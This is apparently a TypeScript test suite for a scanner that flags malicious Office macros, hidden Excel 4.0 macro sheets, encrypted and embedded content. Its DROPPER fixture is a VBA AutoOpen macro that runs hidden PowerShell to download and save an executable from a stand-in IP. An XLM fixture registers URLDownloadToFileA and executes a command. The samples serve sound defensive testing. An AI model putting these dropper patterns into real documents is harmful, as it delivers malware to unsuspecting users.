import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { scanOle } from '../../../src/inspect/office/ole.js';
import { decryptOoxml } from '../../../src/inspect/office/offcrypto.js';
import { DEFAULT_OFFICE_LIMITS, newBudget } from '../../../src/inspect/office/types.js';
import {
  XLM,
  buildAgileEncrypted,
  buildDoc,
  buildPpt,
  buildVbaProjectBin,
  buildWithEmbedded,
  buildXls,
  ole10Native,
  ptg,
  type ModuleSpec,
} from '../../fixtures/office/ole-builders.js';
import { oleCtx, recorder, symbols } from '../../fixtures/office/ole-context.js';

const DROPPER = [
  'Sub AutoOpen()',
  '  Set sh = CreateObject("WScript.Shell")',
  "  sh.Run \"powershell -nop -w hidden -c (New-Object Net.WebClient).DownloadFile('http://203.0.113.9/a.exe',$env:TEMP+'\\a.exe')\", 0",
  'End Sub',
].join('\n');

describe('scanOle', () => {
  it('Word document with an auto-run, suspicious macro', async () => {
    const doc = buildDoc({
      modules: [
        { name: 'ThisDocument', code: '', document: true },
        { name: 'NewMacros', code: DROPPER },
      ],
    });
    const f = await scanOle(doc, oleCtx('invoice.doc'), recorder().scan);
    assert.deepEqual(symbols(f), ['OFFICE_MACRO', 'OFFICE_MACRO_AUTOEXEC', 'OFFICE_MACRO_SUSPICIOUS']);
    const macro = f.find((x) => x.symbol === 'OFFICE_MACRO')!;
    assert.equal(macro.part, 'invoice.doc > Macros/VBA > NewMacros');
    assert.equal(macro.detail, 'procedures: AutoOpen');
    assert.match(macro.sha256!, /^[0-9a-f]{64}$/);
    assert.equal(f.filter((x) => x.symbol === 'OFFICE_MACRO').length, 1, 'ThisDocument has no code');
    assert.equal(f.find((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC')!.part, 'invoice.doc > Macros/VBA');
    assert.match(f.find((x) => x.symbol === 'OFFICE_MACRO_SUSPICIOUS')!.detail!, /CreateObject.*WScript\.Shell|WScript\.Shell.*CreateObject/);
    for (const x of f) assert.equal(x.score, 0);
  });

  it('the macro hash ignores Attribute lines and line endings', async () => {
    const a = await scanOle(buildDoc({ modules: [{ name: 'M', code: 'Sub A()\nEnd Sub' }] }), oleCtx(), recorder().scan);
    const b = await scanOle(buildVbaProjectBin({ modules: [{ name: 'M', code: 'Sub A()   \r\n\r\nEnd Sub\r\n' }] }), oleCtx(), recorder().scan);
    assert.equal(a[0].sha256, b[0].sha256);
    assert.equal(a[0].sha256, createHash('sha256').update('Sub A()\nEnd Sub').digest('hex'));
  });

  it('VBA project without code: OFFICE_VBA_PROJECT_EMPTY only', async () => {
    const xls = buildXls({
      vba: {
        modules: [
          { name: 'ThisWorkbook', code: 'Option Explicit\n', document: true },
          { name: 'Sheet1', code: '', document: true },
        ],
        projectLines: ['DPB="0E0CD1"'],
      },
    });
    const f = await scanOle(xls, oleCtx('b.xls'), recorder().scan);
    assert.deepEqual(symbols(f), ['OFFICE_VBA_PROJECT_EMPTY']);
    assert.equal(f[0].part, 'b.xls > _VBA_PROJECT_CUR/VBA');
    assert.match(f[0].detail!, /2 module\(s\) and no code, project locked/);
  });

  it('module names in a non-ASCII code page (936) are found through the code page', async () => {
    const mod: ModuleSpec = {
      name: '模块1',
      nameBytes: Buffer.from('c4a3bfe931', 'hex'),
      noUnicode: true,
      code: 'Sub 测试()\nEnd Sub\nSub Workbook_Open()\nEnd Sub',
    };
    mod.code = 'Sub Test1()\nEnd Sub\nSub Workbook_Open()\nEnd Sub';
    const f = await scanOle(buildVbaProjectBin({ codePage: 936, modules: [mod] }), oleCtx('x.xlsm', {}, []), recorder().scan);
    const macro = f.find((x) => x.symbol === 'OFFICE_MACRO');
    assert.equal(macro?.part, 'x.xlsm > VBA > 模块1');
    assert.doesNotMatch(macro.detail!, /recovered/);
    assert.ok(f.some((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC'));
  });

  it('wrong MODULEOFFSET: source recovered from the \\0Attribut signature', async () => {
    const f = await scanOle(
      buildDoc({ modules: [{ name: 'Module1', code: 'Sub Document_Open()\nEnd Sub', badOffset: 3, cacheBytes: 40 }] }),
      oleCtx(),
      recorder().scan,
    );
    const macro = f.find((x) => x.symbol === 'OFFICE_MACRO')!;
    assert.match(macro.detail!, /procedures: Document_Open \(source recovered by signature search\)/);
    assert.ok(f.some((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC'));
  });

  it('unreadable dir stream: module streams are still searched', async () => {
    const f = await scanOle(buildDoc({ brokenDir: true, modules: [{ name: 'Module1', code: 'Sub X()\n Shell "calc"\nEnd Sub' }] }), oleCtx(), recorder().scan);
    assert.deepEqual(symbols(f), ['OFFICE_MACRO', 'OFFICE_MACRO_SUSPICIOUS']);
  });

  it('XLS with a very hidden Excel 4.0 macro sheet and Auto_Open', async () => {
    const formulas = [
      Buffer.concat([ptg.str('urlmon'), ptg.str('URLDownloadToFileA'), ptg.str('JJCCJJ'), ptg.funcVar(XLM.REGISTER, 3)]),
      Buffer.concat([ptg.str('cmd /c calc'), ptg.funcVar(XLM.EXEC, 1)]),
      Buffer.concat([ptg.funcVar(XLM.HALT, 0)]),
    ];
    const f = await scanOle(buildXls({ macroSheet: { name: 'Macro1', hidden: 2, formulas }, autoOpen: true }), oleCtx('inv.xls'), recorder().scan);
    assert.deepEqual(symbols(f), ['OFFICE_MACRO_AUTOEXEC', 'OFFICE_MACRO_SUSPICIOUS', 'OFFICE_XLM_MACRO']);
    const xlm = f.find((x) => x.symbol === 'OFFICE_XLM_MACRO')!;
    assert.equal(xlm.part, 'inv.xls > Workbook > Macro1');
    assert.match(xlm.detail!, /very hidden macro sheet "Macro1", 3 macro-sheet formula\(s\): REGISTER, URLDownloadToFileA, EXEC, HALT/);
    assert.match(f.find((x) => x.symbol === 'OFFICE_MACRO_AUTOEXEC')!.detail!, /Auto_Open/);
  });

  it('XLS with an empty macro sheet (and Auto_Open name) is not a macro', async () => {
    const f = await scanOle(buildXls({ macroSheet: { name: 'Macro1', hidden: 1, formulas: [] }, autoOpen: true }), oleCtx('e.xls'), recorder().scan);
    assert.deepEqual(f, []);
  });

  it('PowerPoint 97: VBA storage in a zlib-compressed 0x1011 atom', async () => {
    const bin = buildVbaProjectBin({ modules: [{ name: 'Module1', code: 'Sub OnSlideShowPageChange()\n  Shell "calc.exe"\nEnd Sub' }] });
    for (const compressed of [true, false]) {
      const f = await scanOle(buildPpt(bin, { compressed }), oleCtx('deck.ppt'), recorder().scan);
      assert.deepEqual(symbols(f), ['OFFICE_MACRO', 'OFFICE_MACRO_AUTOEXEC', 'OFFICE_MACRO_SUSPICIOUS'], `compressed=${compressed}`);
      assert.match(f.find((x) => x.symbol === 'OFFICE_MACRO')!.part!, /^deck\.ppt > PowerPoint Document@0x[0-9a-f]+ > VBA > Module1$/);
    }
  });

  it('encrypted OOXML: decrypted with VelvetSweatshop and handed to the dispatcher', async () => {
    const pkg = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(10_000, 0x42)]);
    const rec = recorder([{ symbol: 'OFFICE_MACRO', score: 0, part: 'inner' }]);
    const ctx = oleCtx('book.xlsm');
    const f = await scanOle(buildAgileEncrypted(pkg, 'VelvetSweatshop'), ctx, rec.scan);
    assert.equal(rec.calls.length, 1);
    assert.deepEqual(rec.calls[0].bytes, pkg);
    assert.deepEqual(rec.calls[0].path, ['book.xlsm', 'EncryptedPackage']);
    assert.deepEqual(symbols(f), ['OFFICE_MACRO']);
    assert.equal(ctx.budget.passwordAttemptsLeft, ctx.limits.maxPasswordAttempts - 1);
  });

  it('encrypted OOXML: a password announced in the message opens it, an unknown one is unscannable', async () => {
    const pkg = Buffer.from('PK\x03\x04 hello');
    const enc = buildAgileEncrypted(pkg, '2024');
    const rec = recorder();
    assert.deepEqual(await scanOle(enc, oleCtx('a.docx', {}, ['nope', '2024']), rec.scan), []);
    assert.deepEqual(rec.calls[0].bytes, pkg);
    const f = await scanOle(enc, oleCtx('a.docx'), recorder().scan);
    assert.deepEqual(symbols(f), ['OFFICE_ENCRYPTED_UNSCANNABLE']);
    assert.match(f[0].detail!, /password unknown/);
    const noTries = await scanOle(enc, oleCtx('a.docx', { maxPasswordAttempts: 0 }, ['2024']), recorder().scan);
    assert.match(noTries[0].detail!, /password attempts exhausted/);
    assert.equal(decryptOoxml(Buffer.alloc(8), Buffer.alloc(8), ['x'], newBudget(DEFAULT_OFFICE_LIMITS), 1e6).reason, 'EncryptionInfo version 0.0');
  });

  it('encrypted Word document: unscannable unless a VBA project could be read', async () => {
    assert.deepEqual(symbols(await scanOle(buildDoc(undefined, { encrypted: true }), oleCtx(), recorder().scan)), ['OFFICE_ENCRYPTED_UNSCANNABLE']);
    const withVba = buildDoc({ modules: [{ name: 'M', code: 'Sub AutoOpen()\nEnd Sub' }] }, { encrypted: true });
    assert.deepEqual(symbols(await scanOle(withVba, oleCtx(), recorder().scan)), ['OFFICE_MACRO', 'OFFICE_MACRO_AUTOEXEC']);
  });

  it('embedded OLE objects (Ole10Native package, Package stream) go to the dispatcher', async () => {
    const inner = Buffer.from('PK\x03\x04 embedded docm');
    const doc = buildWithEmbedded({
      '/ObjectPool/_1/\x01Ole10Native': ole10Native('x.docm', inner),
      '/ObjectPool/_2/Package': Buffer.from('PK\x03\x04 package'),
    });
    const rec = recorder();
    await scanOle(doc, oleCtx('o.doc'), rec.scan);
    assert.deepEqual(rec.calls.map((c) => [c.path.join(' > '), c.bytes.toString('latin1')]).sort(), [
      ['o.doc > ObjectPool/_1/\\x01Ole10Native', 'PK\x03\x04 embedded docm'],
      ['o.doc > ObjectPool/_2/Package', 'PK\x03\x04 package'],
    ]);
  });

  it('corrupt and truncated input: one OFFICE_CORRUPT, no throw', async () => {
    const f1 = await scanOle(Buffer.from('not an ole file at all'), oleCtx(), recorder().scan);
    assert.deepEqual(symbols(f1), ['OFFICE_CORRUPT']);
    const doc = buildDoc({ modules: [{ name: 'M', code: 'Sub AutoOpen()\nEnd Sub' }] });
    const f2 = await scanOle(doc.subarray(0, 600), oleCtx(), recorder().scan);
    assert.deepEqual(symbols(f2), ['OFFICE_CORRUPT']);
    assert.equal(f2.filter((x) => x.symbol === 'OFFICE_CORRUPT').length, 1);
  });

  it('spends the byte budget and stops at the deadline', async () => {
    const doc = buildDoc({ modules: [{ name: 'M', code: 'Sub A()\nEnd Sub\n'.repeat(2000) }] });
    const f = await scanOle(doc, oleCtx('big.doc', { maxBytes: 10_000 }), recorder().scan);
    assert.ok(
      f.some((x) => x.symbol === 'ARCHIVE_LIMIT'),
      JSON.stringify(f),
    );
    const late = oleCtx();
    late.budget.deadline = Date.now() - 1;
    assert.deepEqual(symbols(await scanOle(doc, late, recorder().scan)), ['ARCHIVE_LIMIT']);
  });
});
